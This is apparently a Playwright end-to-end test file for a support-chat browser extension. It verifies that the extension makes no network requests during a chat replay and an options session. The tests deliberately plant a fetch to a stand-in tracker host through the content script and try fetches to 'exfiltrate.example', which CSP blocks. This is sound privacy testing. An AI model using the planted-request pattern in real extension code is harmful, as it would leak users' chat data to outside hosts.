// Nothing leaves the browser: during a whole heated chat (reading, analysis, panel, insertion,
// a worker restart) and an options session, no extension context makes a single request.
// Each request is judged by who made it (RequestLog): the extension's service worker, its pages,
// or a desk page beyond what the fixture loads itself. The browser's own traffic, which differs
// from one Chromium build to the next, is not ours to judge and is not asserted on.
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { deskFixtures, serveDeskFixtures } from '../fixtures/desks/index';
import { launchWithExtension, openPanelTab, stopServiceWorker, tabIdOf, type ExtensionBrowser } from './browser';
import { composerText, expectFlag, panelFlags } from './chat';
import { heatedChat, playStep } from './heatedChat';
import { turnCount } from './panelReading';
import { startRecordingProxy, type RecordingProxy } from './recordingProxy';
import { RequestLog } from './requestLog';
import { NO_GUARANTEE_PACK } from '../fixtures/rulePacks';

const desk = deskFixtures.find((d) => d.id === 'zendesk')!;
const deskOrigin = new URL(desk.url).origin;

let browser: ExtensionBrowser;
let proxy: RecordingProxy;
let requests: RequestLog;

beforeAll(async () => {
  // Service-worker requests only show up in Playwright's events with this switch.
  process.env['PW_EXPERIMENTAL_SERVICE_WORKER_NETWORK_EVENTS'] = '1';
  // Whatever is not served by a fixture route ends at this proxy, never on the network.
  proxy = await startRecordingProxy();
  browser = await launchWithExtension({ args: [`--proxy-server=${proxy.url}`] });
  requests = new RequestLog(browser.context, browser.extensionId, new Set([deskOrigin]));
  await serveDeskFixtures(browser.context, [desk]);
});

afterAll(async () => {
  await browser?.close();
  await proxy?.close();
});

/** A desk tab of its own, read by the content script, and its tab id. */
async function openDesk(): Promise<{ page: Page; tabId: number }> {
  const page = await browser.context.newPage();
  await page.goto(desk.url);
  return { page, tabId: await tabIdOf(browser.worker, page) };
}

const pageMessages = (page: Page) => page.evaluate(() => window.__chat.script().length);

it('sees a request planted in the content script, the one context whose requests CSP allows', async () => {
  const { page, tabId } = await openDesk();
  const mark = requests.mark();
  const planted = 'https://tracker.example/pixel?chat=1042';
  // The content script's isolated world, entered the way the extension itself can.
  await browser.worker.evaluate(
    ([tab, url]) =>
      chrome.scripting.executeScript({
        target: { tabId: tab as number },
        func: (address: string) => void fetch(address).catch(() => undefined),
        args: [url as string],
      }),
    [tabId, planted] as const,
  );
  await expect.poll(() => requests.oursSince(mark).map((r) => `${r.maker} ${r.url}`)).toContain(`desk page ${planted}`);
  // And it really went out: the proxy, standing in for the network, was asked for its host.
  await expect.poll(() => proxy.requests).toContain('CONNECT tracker.example:443');
  await page.close();
});

it('blocks network access from the worker and extension pages by CSP', async () => {
  const mark = requests.mark();
  const options = await browser.context.newPage();
  await options.goto(`chrome-extension://${browser.extensionId}/src/options/index.html`);
  const attempt = (url: string) =>
    fetch(url).then(
      () => 'sent',
      () => 'blocked',
    );
  expect(await browser.worker.evaluate(attempt, 'https://exfiltrate.example/worker')).toBe('blocked');
  expect(await options.evaluate(attempt, 'https://exfiltrate.example/options')).toBe('blocked');
  await options.close();
  expect(requests.oursSince(mark)).toEqual([]);
});

it('makes no network request during a whole heated chat, a worker restart included', async () => {
  const { page, tabId } = await openDesk();
  const mark = requests.mark();
  const panel = await openPanelTab(browser, tabId);
  await page.evaluate(([id, name]) => window.__chat.switchConversation(id!, name), [heatedChat.conversation.id, heatedChat.conversation.customerName]);
  await expect.poll(() => panel.locator('[data-customer-name]').getAttribute('data-customer-name'), { timeout: 10_000 }).toBe(heatedChat.conversation.customerName);
  for (const step of heatedChat.steps) {
    // The chat's end raises the breather flag; the agent then moves on and gets the nudge.
    if ('switch' in step) await expectFlag(panel, 'breather');
    const [composed, turnsBefore] = [await composerText(page), await turnCount(panel)];
    await playStep(
      page,
      step,
      () => panel.locator('[data-action="insert"]').first().click(),
      // A click on the element: the reframe card may sit in the panel's folded cards.
      () => panel.locator('[data-suggestion-kind="reframe"] [data-action="replace"]').first().evaluate((el: HTMLElement) => el.click()),
    );
    // Each step read before the next: a message in the panel, a draft checked, a card inserted.
    if ('customer' in step || 'agent' in step || 'system' in step) {
      await expect.poll(() => turnCount(panel), { timeout: 10_000 }).toBeGreaterThan(turnsBefore);
    } else if ('switch' in step) {
      await expect.poll(async () => (await turnCount(panel)) === (await pageMessages(page)), { timeout: 10_000 }).toBe(true);
    } else if ('draft' in step) {
      await panel.locator('li[data-flag-category] .chip').first().waitFor({ state: 'attached', timeout: 10_000 });
    } else if ('insert' in step || 'replace' in step) {
      await expect.poll(() => composerText(page)).not.toBe(composed);
    }
  }
  await panel.locator('[data-nudge="breather"]').waitFor({ timeout: 10_000 });

  // A worker restart in the middle of it all: the replay stays local too.
  const before = { turns: await turnCount(panel), flags: await panelFlags(panel) };
  await stopServiceWorker(browser, page);
  await panel.reload();
  await expect.poll(async () => ({ turns: await turnCount(panel), flags: await panelFlags(panel) }), { timeout: 10_000 }).toEqual(before);

  expect(requests.oursSince(mark)).toEqual([]);
  await panel.close();
  await page.close();
});


it('makes no network request during an options session (rules, pack import, playground, live check)', async () => {
  const { page, tabId } = await openDesk();
  const mark = requests.mark();
  const options = await browser.context.newPage();
  await options.goto(`chrome-extension://${browser.extensionId}/src/options/index.html`);
  const toggle = options.locator('[data-rule-id="anger.shouting"] input[data-action="toggle-rule"]');
  await toggle.uncheck();
  await expect.poll(() => browser.worker.evaluate(() => chrome.storage.local.get('disabledRules'))).toEqual({ disabledRules: ['anger.shouting'] });
  await toggle.check();
  await expect.poll(() => browser.worker.evaluate(() => chrome.storage.local.get('disabledRules'))).toEqual({});
  await options.locator('input[type=file][data-action="import-pack"]').setInputFiles({
    name: 'team.yaml',
    mimeType: 'text/yaml',
    buffer: Buffer.from(NO_GUARANTEE_PACK),
  });
  await options.locator('[data-rule-id="team.no-guarantee"]').waitFor({ timeout: 10_000 });
  await options.locator('textarea[data-action="playground-input"]').fill('Customer: This is the third time I have asked!!\nAgent: I guarantee it arrives by Friday.');
  await options.locator('[data-action="playground-run"]').click();
  await options.locator('[data-playground-turn="1"] [data-rule="team.no-guarantee"]').waitFor({ timeout: 10_000 });
  await options.locator('select[name="startFrom"]').selectOption('zendesk');
  await options.locator('[data-action="refresh-tabs"]').click();
  await options.locator('select[name="checkTab"]').selectOption(String(tabId));
  await options.locator('[data-action="check-site"]').click();
  await expect.poll(() => options.locator('[data-site-check]').textContent(), { timeout: 10_000 }).toMatch(/\d+ messages?/);
  await options.close();

  // The pasted chat stayed in the page: nothing of it reached storage.
  const stored = JSON.stringify(await browser.worker.evaluate(async () => [await chrome.storage.local.get(null), await chrome.storage.session.get(null)]));
  expect(stored).not.toContain('third time I have asked');
  expect(stored).not.toContain('arrives by Friday');
  expect(requests.oursSince(mark)).toEqual([]);
  await page.close();
});
